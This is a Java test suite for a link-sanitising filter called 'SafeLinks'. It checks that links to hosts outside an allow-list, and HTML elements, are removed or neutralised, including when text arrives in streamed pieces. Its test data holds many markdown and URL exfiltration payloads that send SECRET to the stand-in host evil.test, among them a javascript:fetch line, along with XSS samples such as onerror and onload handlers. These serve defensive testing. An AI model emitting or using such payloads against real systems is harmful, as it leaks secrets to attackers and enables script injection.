package io.kass.core.safety;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("B7")
@Tag("F27")
class SafeLinksTest {
  private static final AllowedHosts HOSTS = new AllowedHosts(List.of("ok.example"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "See ![x](https://evil.test/p.png?q=SECRET) there",
        "![x][r]\n\n[r]: https://evil.test/SECRET",
        "[r]: //evil.test/SECRET",
        "[r]:\n  <//evil.test/SECRET>",
        "[click](https://evil.test/?q=SECRET \"title\")",
        "[click](<https://evil.test/?q=SECRET>)",
        "[click](\n https://evil.test/?q=SECRET)",
        "[click](//evil.test/SECRET)",
        "[click](\\/\\/evil.test/SECRET)",
        "[click](&#104;ttps://evil.test/SECRET)",
        "[click](https&colon;//evil.test/SECRET)",
        "[click](javascript:fetch('//evil.test/SECRET'))",
        "[click](data:text/html,SECRET)",
        "[click](https://ok.example@evil.test/SECRET)",
        "[click](https://ok.example\\@evil.test/SECRET)",
        "[click](https://ok.example.evil.test/SECRET)",
        "[click](https://evilok.example/SECRET)",
        "[click](https://ok.example/go?to=https%3A%2F%2Fevil.test/SECRET)",
        "https://ok.example//evil.test/SECRET",
        "https://evil.test/SECRET",
        "HtTpS://evil.test/SECRET",
        "xhttps://evil.test/SECRET",
        "<https://evil.test/SECRET>",
        "https://ok.example'@evil.test/SECRET",
        "https://ok.example'SECRET.evil.test/",
        "https://ok.example),SECRET.evil.test/",
        "https://ok.example*.SECRET.evil.test/",
        "https://ok.example。evil.test/SECRET",
        "www.evil.test/SECRET",
        "ftp://evil.test/SECRET",
        "slack://evil.test/SECRET",
        "(https://x.test)https://evil.test/SECRET",
        "<img src=//evil.test/SECRET>",
        "`https://evil.test/SECRET`",
        "```\nhttps://evil.test/SECRET\n```"
      })
  void nothingLeadsWhereItMayNot(String text) {
    assertThat(SafeLinks.of(HOSTS, text))
        .contains("link removed")
        .doesNotContainPattern("(?i)(https?|ftp|slack)://|//evil|www\\.evil|:text|javascript:f")
        .doesNotContain("![");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<IMG onerror=alert(1)>",
        "a<svg/onload=alert(1)>",
        "<x onclick=alert(1)>",
        "<!-- hidden -->",
        "<javascript:alert(1)>",
        "`<img src=x>`",
        "<iframe"
      })
  void elementsOfHtmlAreOnlyText(String text) {
    assertThat(SafeLinks.of(HOSTS, text)).isEqualTo(text.replace('<', '‹'));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Seven years [1][2]. [3] (see there)",
        "[guide](docs/guide.md) and [part](#part)",
        "[docs](https://docs.ok.example/a?b=c#d) at https://ok.example, or"
            + " https://ok.example:8443/x.",
        "It is (https://ok.example), or 'https://ok.example'; see https://ok.example[1].",
        "At 10:30: a ratio of 3:4, C:\\temp, path//file and // comment and //comment",
        "Map<String, List<Integer>> x = a < b; i <3 and x<y",
        "args[0](event) if (!x) { y[i]: z }",
        "[1]: 10:30 is the time",
        "how www what http https: ftp hw.",
        "```html\n<img src=\"x.png\">\n<div class=a>\n```",
        "What! [sic]!",
        "日本語の答え[1]。時刻：10:30"
      })
  void otherTextStaysAsItIs(String text) {
    assertThat(SafeLinks.of(HOSTS, text)).isEqualTo(text);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "see https://evil.test/x[1]. | see (link removed)[1].",
        "(https://evil.test/x) and | ((link removed)) and",
        "![a](https://ok.example/p.png) | [a](https://ok.example/p.png)",
        "[a](https://evil.test) b | [a(removed)] b",
        "詳細は https://evil.test/x。 | 詳細は (link removed)。"
      })
  void whatIsLeftReadsWell(String text, String left) {
    assertThat(SafeLinks.of(HOSTS, text))
        .isEqualTo(left.replace("a(removed)]", "a](link removed)"));
  }

  @Test
  void passesOnWhatIsClearAtOnce() {
    var heard = new StringBuilder();
    var links = new SafeLinks(HOSTS, heard::append);
    links.accept("Seven years");
    assertThat(heard).hasToString("Seven years");
    links.accept(" [a](https://ev");
    assertThat(heard).hasToString("Seven years [a");
    links.accept("il.test) on");
    assertThat(heard).hasToString("Seven years [a](link removed) on");
    assertThat(links.removed()).isEqualTo(1);
  }

  /** Every way to cut a text in two, or into single characters, gives the same. */
  @Property(tries = 500)
  void piecesDoNotMatter(@ForAll("texts") String text) {
    String whole = SafeLinks.of(HOSTS, text);
    for (int cut = 0; cut <= text.length(); cut++) {
      assertThat(read(text.substring(0, cut), text.substring(cut))).isEqualTo(whole);
    }
    assertThat(read(text.split(""))).isEqualTo(whole);
  }

  /** Whatever a text is made of, no address of another host comes through. */
  @Property(tries = 2_000)
  void noMixtureLeadsElsewhere(@ForAll("texts") String text) {
    assertThat(SafeLinks.of(HOSTS, text))
        .doesNotContainPattern(
            "(?i)(https?|ftp)://(?!(docs\\.)?ok\\.example(?![!'\"(){}*,;.-]*[\\w@]))[^\\s<‹]")
        .doesNotContain("![");
  }

  @Provide
  Arbitrary<String> texts() {
    return Arbitraries.of(
            "![",
            "[",
            "]",
            "(",
            ")",
            "a",
            "x",
            " ",
            "\n",
            "https://",
            "http:",
            "//",
            "/",
            ":",
            "!",
            "evil.test",
            "ok.example",
            "docs.",
            "@",
            "\\",
            "<",
            ">",
            "<img ",
            "</a",
            "www.",
            "`",
            "```",
            "。",
            "'",
            "\"",
            "&",
            "w",
            "h",
            "ftp://",
            ".",
            "1")
        .list()
        .ofMaxSize(14)
        .map(parts -> String.join("", parts));
  }

  private static String read(String... pieces) {
    var heard = new StringBuilder();
    var links = new SafeLinks(HOSTS, heard::append);
    List.of(pieces).forEach(links::accept);
    links.finish();
    return heard.toString();
  }
}
